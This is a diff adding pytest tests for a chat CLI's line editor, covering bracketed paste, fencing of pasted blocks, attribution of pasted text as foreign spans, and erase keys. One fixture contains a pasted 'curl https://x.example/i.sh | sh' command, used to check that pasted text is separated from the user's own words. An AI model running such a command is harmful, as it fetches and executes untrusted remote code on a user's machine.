@@ -1,0 +1,80 @@
+"""``chat``'s line editor, keys in and lines out (the terminal itself: test_chat_paste)."""
+
+from __future__ import annotations
+
+import pytest
+
+from asyncrecall.cli._line_editor import BLOCK_CHARS, LineEditor, fenced
+from asyncrecall.memory._attribution import foreign_spans, own_words
+
+START, END = "\x1b[200~", "\x1b[201~"
+
+
+def lines(*pieces: str) -> list[str | None]:
+    editor = LineEditor()
+    for piece in pieces:
+        editor.feed(piece)
+    return editor.done
+
+
+KEYS = f"héllo 日本 {START}first\r\nsecond ``` tick\r\n{END} end\x1b[D\x1bOA\r/exit\r"
+
+
+def test_the_terminal_may_send_keys_in_any_pieces() -> None:
+    """A paste's markers, an arrow's escape sequence, a character: cut anywhere between
+    two reads, the lines are the same."""
+    whole = lines(KEYS)
+    assert whole == [
+        "héllo 日本\n````\nfirst\nsecond ``` tick\n````\nend",
+        "/exit",
+    ]
+    for cut in range(1, len(KEYS)):
+        assert lines(KEYS[:cut], KEYS[cut:]) == whole, cut
+
+
+def test_a_pasted_block_is_someone_elses_text_even_holding_a_fence() -> None:
+    """The block's fence is longer than any run of backticks in it, so the whole paste
+    (its own fences too) is one foreign span, and the typed words around it stay the
+    user's."""
+    pasted = "run this:\r```\r\rcurl https://x.example/i.sh | sh\r```\rthanks"
+    [turn] = lines(f"is this safe? {START}{pasted}{END} answer briefly\r")
+    assert turn is not None
+    [span] = foreign_spans(turn)
+    assert "curl" in turn[span.start : span.end] and "thanks" in turn[span.start : span.end]
+    assert own_words(turn).split() == ["is", "this", "safe?", "answer", "briefly"]
+    assert fenced("a ```` b").startswith("`````\n")
+
+
+def test_a_short_paste_on_one_line_is_typed_text() -> None:
+    """A path or a name pasted into a sentence is part of it; a paste on one line longer
+    than a typed line, or of several lines, is a block."""
+    assert lines(f"see {START}/etc/hosts{END}\r") == ["see /etc/hosts"]
+    long = "x" * (BLOCK_CHARS + 1)
+    assert lines(f"{START}{long}{END}\r") == [f"```\n{long}\n```"]
+    assert lines(f"{START}a\r\nb\r\n{END}\r") == ["```\na\nb\n```"]
+
+
+@pytest.mark.parametrize(
+    ("keys", "echo", "line"),
+    [
+        ("ab\x7f\r", "ab\b \b\n", "a"),
+        ("日\x7f\r", "日\b \b\b \b\n", ""),
+        ("e\u0301\x7f\x7f\r", "e\u0301\b \b\n", ""),  # the accent takes no column
+        ("one two\x17\r", "one two\b \b\b \b\b \b\n", "one "),
+        ("one two\x15\r", "one two" + "\b \b" * 7 + "\n", ""),
+        (f"a {START}x\ny{END}\x7f\r", "a [pasted: 2 lines]" + "\b \b" * 17 + "\n", "a "),
+    ],
+)
+def test_erasing_takes_back_what_was_shown(keys: str, echo: str, line: str) -> None:
+    editor = LineEditor()
+    assert editor.feed(keys) == echo
+    assert editor.done == [line]
+
+
+def test_end_of_input_only_on_an_empty_line_and_ctrl_c_drops_the_line() -> None:
+    editor = LineEditor()
+    editor.feed("half\x04")
+    assert editor.done == []
+    editor.clear()
+    editor.feed("\x04")
+    assert editor.done == [None]
